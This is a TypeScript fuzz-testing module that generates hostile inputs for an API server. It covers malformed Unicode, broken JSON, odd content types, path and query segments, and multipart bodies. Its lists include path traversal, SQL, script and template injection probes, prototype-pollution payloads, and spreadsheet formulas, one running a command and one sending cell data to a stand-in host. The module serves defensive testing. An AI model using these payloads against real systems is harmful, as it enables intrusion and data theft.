import fc from 'fast-check';

/*
 * Hostile input for the route fuzzer: strings that break naive text handling, values of the wrong
 * type or shape, JSON that is not JSON, bodies in the wrong content type, and path and query
 * segments that are not what a browser would send.
 */

/** Keys that pollute Object.prototype when a parser or a merge copies them naively. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

const LONE_SURROGATES = ['\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\uDC00\uD800', 'a\uD83D'];
const INVISIBLE = ['\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u180E'];
const DIRECTIONAL = ['\u202E', '\u202D', '\u200F', '\u2066', '\u2069', 'שלום', 'مرحبا', '\u202Eflip\u202C'];
const CONTROL = [
  '\u0000',
  '\u0001',
  '\u0008',
  '\u001B',
  '\u007F',
  '\u0085',
  '\u2028',
  '\u2029',
  '\r\n',
  '\t',
];
const COMBINING = [
  'a\u0301',
  'S\u0326',
  'T\u0327',
  'Z\u0334\u0321\u032A\u034Ca\u0338l\u0337g\u0336o\u0335',
  '\u0301',
];
const EMOJI = ['😀', '👩‍👩‍👧‍👦', '🏳️‍🌈', '🇷🇴', '👍🏽', '\u{1F9D1}\u200D\u{1F4BB}'];
const INJECTION = [
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  '0x1F',
  '../../etc/passwd',
  '..%2F..%2F',
  '%00',
  '%',
  // A template injection probe, literally: the placeholder must not be interpolated here.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the probe
  '${7*7}',
  '{{7*7}}',
  "' OR '1'='1",
  '<script>alert(1)</script>',
  'USER#',
  'META',
  '#',
  'PK',
  '__proto__',
  'toString',
  'hasOwnProperty',
  '01JZZZZZZZZZZZZZZZZZZZZZZZ',
  'ȘȚĂÎÂșțăîâ',
  'x'.repeat(201),
];

/**
 * Text a spreadsheet runs as a formula when an export writes it as given, and text as it arrives
 * misread (cedilla letters, UTF-8 read as a code page, lost letters): docs/security.md, formula
 * injection and careless input.
 */
const FORMULA = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\uFF1D1+1',
];
const MISREAD = ['Ştefan Ţepeş', 'È™tefan', 'Ä‚Ã®', '\uFFFD', '?tefan', 'S\u0327T\u0327', '\uFEFFnume'];
/**
 * Look-alikes of a username (docs/security.md, look-alike usernames): Cyrillic and Greek letters,
 * full-width and mathematical forms, a capital I for an l, the cedilla for the comma below.
 */
const CONFUSABLE = [
  '\u043Ewner.a',
  '\uFF4F\uFF57\uFF4E\uFF45\uFF52.\uFF41',
  '\u03BFwner.a',
  'OWNER.A',
  'mihai.\u015Ftefan',
  'ion.popescu\u0399',
  '\u{1D428}wner.a',
  'a\u0430a',
];

const edgePiece = fc.constantFrom(
  ...FORMULA,
  ...MISREAD,
  ...CONFUSABLE,
  ...LONE_SURROGATES,
  ...INVISIBLE,
  ...DIRECTIONAL,
  ...CONTROL,
  ...COMBINING,
  ...EMOJI,
  ...INJECTION,
);

/** Strings of every kind the server may meet: edge pieces, random code units, and big ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: edgePiece },
  {
    weight: 4,
    arbitrary: fc
      .array(fc.oneof(edgePiece, fc.string()), { minLength: 1, maxLength: 6 })
      .map((parts) => parts.join('')),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code)),
      maxLength: 8,
    }),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('A', 'ș', '😀', '\u0000', 'a\u0301'), fc.integer({ min: 300, max: 20_000 }))
      .map(([unit, count]) => unit.repeat(count)),
  },
);

const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -0, 1, -1, 0.5, 1e21, -1e21, Number.MAX_SAFE_INTEGER + 2, Number.MIN_VALUE, 4294967296),
);

const scalar = fc.oneof(hostileString, hostileNumber, fc.boolean(), fc.constant(null));

/** A JSON value of any type, with hostile keys in its objects. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof({ depthSize: 'small', withCrossShrink: true }, scalar, tie('array'), tie('object')),
  array: fc.array(tie('value'), { maxLength: 5 }),
  object: fc
    .array(fc.tuple(fc.oneof(hostileString, fc.constantFrom(...PROTOTYPE_KEYS)), tie('value')), {
      maxLength: 5,
    })
    .map(
      (entries) =>
        // Object.fromEntries defines `__proto__` as an own key, so JSON.stringify sends it.
        Object.fromEntries(entries) as unknown,
    ),
})).value;

/** A value nested far deeper than any schema expects. */
export const deeplyNested: fc.Arbitrary<unknown> = fc
  .tuple(fc.integer({ min: 50, max: 2000 }), fc.boolean())
  .map(([depth, asArrays]) => {
    let value: unknown = 'fund';
    for (let level = 0; level < depth; level += 1) value = asArrays ? [value] : { a: value };
    return value;
  });

/** JSON text that pollutes the prototype of a naive merge: `__proto__` as a real key. */
export const pollutingJson = fc
  .tuple(
    fc.constantFrom(...PROTOTYPE_KEYS),
    fc.constantFrom('{"polluted":"da"}', '{"prototype":{"polluted":"da"}}', '"da"', '[1]'),
  )
  .map(([key, payload]) => ({ key, payload }));

/** Text that a JSON parser must refuse (or that parses to something surprising). */
export function brokenJsonFrom(validJson: string): fc.Arbitrary<string | Buffer> {
  return fc.oneof(
    fc.constantFrom(
      '{',
      '}',
      '{"a":}',
      "{'a': 1}",
      '{"a": 1,}',
      '[1, 2',
      'nul',
      'NaN',
      '{"a": NaN}',
      '{"a": Infinity}',
      '{"a": 1e999}',
      '{"a": -1e999}',
      '{"a": 123456789012345678901234567890}',
      '/* comentariu */ {}',
      '{"a": "\\ud800"}',
      '{"a": "\\u0000"}',
      '{"a": "\\x41"}',
      '\uFEFF{}',
      '"text"',
      '42',
      'true',
      'null',
      '[]',
      '{"a":1}{"b":2}',
      '{"a":1,"a":2}',
      `{"a":"${'\\'.repeat(3)}"}`,
    ),
    fc.integer({ min: 1, max: Math.max(1, validJson.length - 1) }).map((cut) => validJson.slice(0, cut)),
    fc
      .tuple(fc.constantFrom(' x', ',', '}', ']', '\u0000', ' // ok'), fc.constant(validJson))
      .map(([tail, json]) => json + tail),
    fc.integer({ min: 1000, max: 200_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
    fc.integer({ min: 1000, max: 100_000 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
    fc.uint8Array({ minLength: 1, maxLength: 64 }).map((bytes) => Buffer.from(bytes)),
    fc.constant(Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0x22, 0x7d])),
  );
}

/** Content types a client may send instead of JSON, well-formed or not. */
export const wrongContentType = fc.constantFrom(
  'text/plain',
  'text/plain; charset=utf-8',
  'application/x-www-form-urlencoded',
  'application/octet-stream',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'APPLICATION/JSON',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/form-data; boundary=lipsa',
  'multipart/mixed; boundary=x',
  'image/png',
  '*/*',
  ';;;',
  'application/json\u0009x',
);

/**
 * Hostile text in a URL stays short enough for the request line (Node's HTTP server answers
 * 431 itself beyond 16 kB of headers, and API Gateway refuses long URLs before any Lambda).
 */
const URL_TEXT_MAX = 300;
const urlText = hostileString.filter((text) => text.length < URL_TEXT_MAX);

/**
 * A path segment as it reaches the gateway: percent-encoded UTF-8 (lone surrogates as their
 * CESU bytes, which no UTF-8 decoder accepts), raw malformed escapes, or dot segments.
 */
export const hostilePathSegment: fc.Arbitrary<string> = fc.oneof(
  urlText.map(percentEncode),
  fc.constantFrom(
    '%',
    '%zz',
    '%E0%A4%A',
    '%ED%A0%80',
    '%C0%AF',
    '%00',
    '..',
    '.',
    '%2e%2e',
    '%2F',
    'a%2Fb',
    '%25',
    ';x',
    '~',
  ),
);

export function percentEncode(text: string): string {
  let encoded = '';
  for (let index = 0; index < text.length; index += 1) {
    const code = text.charCodeAt(index);
    const isLoneSurrogate = code >= 0xd800 && code <= 0xdfff && !isPairAt(text, index);
    if (isLoneSurrogate) {
      encoded += [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
        .map((byte) => `%${byte.toString(16).toUpperCase()}`)
        .join('');
      continue;
    }
    const codePoint = text.codePointAt(index) as number;
    const character = String.fromCodePoint(codePoint);
    encoded += encodeURIComponent(character);
    if (codePoint > 0xffff) index += 1;
  }
  return encoded;
}

function isPairAt(text: string, index: number): boolean {
  const code = text.charCodeAt(index);
  if (code >= 0xd800 && code <= 0xdbff) {
    const next = text.charCodeAt(index + 1);
    return next >= 0xdc00 && next <= 0xdfff;
  }
  const previous = text.charCodeAt(index - 1);
  return previous >= 0xd800 && previous <= 0xdbff;
}

/** A query string (without `?`) of hostile names and values, repeated names and raw escapes. */
export function hostileQuery(knownNames: readonly string[], validQuery: Record<string, string>) {
  const name = fc.oneof(
    { weight: 3, arbitrary: knownNames.length > 0 ? fc.constantFrom(...knownNames) : urlText },
    { weight: 1, arbitrary: fc.constantFrom(...PROTOTYPE_KEYS) },
    { weight: 1, arbitrary: urlText },
  );
  const value = fc.oneof(
    urlText,
    fc.constantFrom('0', '-1', '1.5', '501', '1e3', '10abc', ' 5 ', '', 'true', '[]', '{}'),
  );
  const pair = fc.tuple(name, value).map(([key, text]) => `${percentEncode(key)}=${percentEncode(text)}`);
  const rawPair = fc.constantFrom(
    'limit=%',
    'limit=%E0%A4%A',
    'cursor=%ED%A0%80',
    '=',
    '&&',
    'a',
    'limit',
    'hash=%00',
  );
  const valid = Object.entries(validQuery).map(
    ([key, text]) => `${percentEncode(key)}=${percentEncode(text)}`,
  );
  return fc
    .tuple(fc.array(fc.oneof(pair, rawPair), { minLength: 1, maxLength: 4 }), fc.subarray(valid))
    .chain(([hostile, kept]) => fc.shuffledSubarray([...hostile, ...kept], { minLength: hostile.length }))
    .map((pairs) => pairs.join('&'));
}

/** One multipart/form-data part: a field or a file. */
export type FormPart =
  | { name: string; value: string }
  | { name: string; filename: string; type: string; content: Uint8Array };

export function encodeMultipart(parts: FormPart[], boundary: string): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition =
      'filename' in part
        ? `form-data; name="${part.name}"; filename="${part.filename}"\r\ncontent-type: ${part.type}`
        : `form-data; name="${part.name}"`;
    chunks.push(Buffer.from(`--${boundary}\r\ncontent-disposition: ${disposition}\r\n\r\n`));
    chunks.push('filename' in part ? Buffer.from(part.content) : Buffer.from(part.value));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

/** A hostile multipart body built from a valid form: fields replaced, files odd, framing broken. */
export function hostileMultipart(
  validFields: Record<string, string>,
  fileField: string,
  validFile: Uint8Array,
  oddFiles: fc.Arbitrary<Uint8Array>,
) {
  const boundary = 'granita-fuzz-7d3a';
  const field = fc.tuple(
    fc.oneof(fc.constantFrom(...Object.keys(validFields), ...PROTOTYPE_KEYS), hostileString),
    hostileString,
  );
  const file = fc.record({
    filename: fc.oneof(
      fc.constantFrom('curs.pdf', '../../x.pdf', 'a"b.pdf', '', 'ș😀\u202E.pdf', 'x'.repeat(300)),
      hostileString,
    ),
    type: fc.constantFrom('application/pdf', 'text/csv', 'application/octet-stream', '', 'x/y; a=b'),
    content: fc.oneof(fc.constant(validFile), oddFiles, fc.constant(new Uint8Array())),
  });
  const framing = fc.constantFrom(
    'intact',
    'no closing boundary',
    'other boundary',
    'no boundary parameter',
    'truncated',
  );
  return fc
    .record({
      replaced: fc.array(field, { maxLength: 3 }),
      dropped: fc.subarray(Object.keys(validFields)),
      file: fc.option(file, { nil: undefined }),
      twoFiles: fc.boolean(),
      framing,
    })
    .map(({ replaced, dropped, file: chosenFile, twoFiles, framing: chosenFraming }) => {
      const fields = { ...validFields };
      for (const name of dropped) delete fields[name];
      const parts: FormPart[] = Object.entries(fields).map(([name, value]) => ({ name, value }));
      for (const [name, value] of replaced) parts.push({ name: name.replace(/["\r\n]/g, '_'), value });
      const files = chosenFile ? (twoFiles ? [chosenFile, chosenFile] : [chosenFile]) : [];
      for (const { filename, type, content } of files)
        parts.push({ name: fileField, filename: filename.replace(/["\r\n]/g, '_'), type, content });
      let body = encodeMultipart(parts, boundary);
      if (chosenFraming === 'no closing boundary') body = body.subarray(0, body.length - boundary.length - 6);
      if (chosenFraming === 'truncated') body = body.subarray(0, Math.floor(body.length / 2));
      const contentType =
        chosenFraming === 'other boundary'
          ? 'multipart/form-data; boundary=alta'
          : chosenFraming === 'no boundary parameter'
            ? 'multipart/form-data'
            : `multipart/form-data; boundary=${boundary}`;
      return { body, contentType, framing: chosenFraming };
    });
}
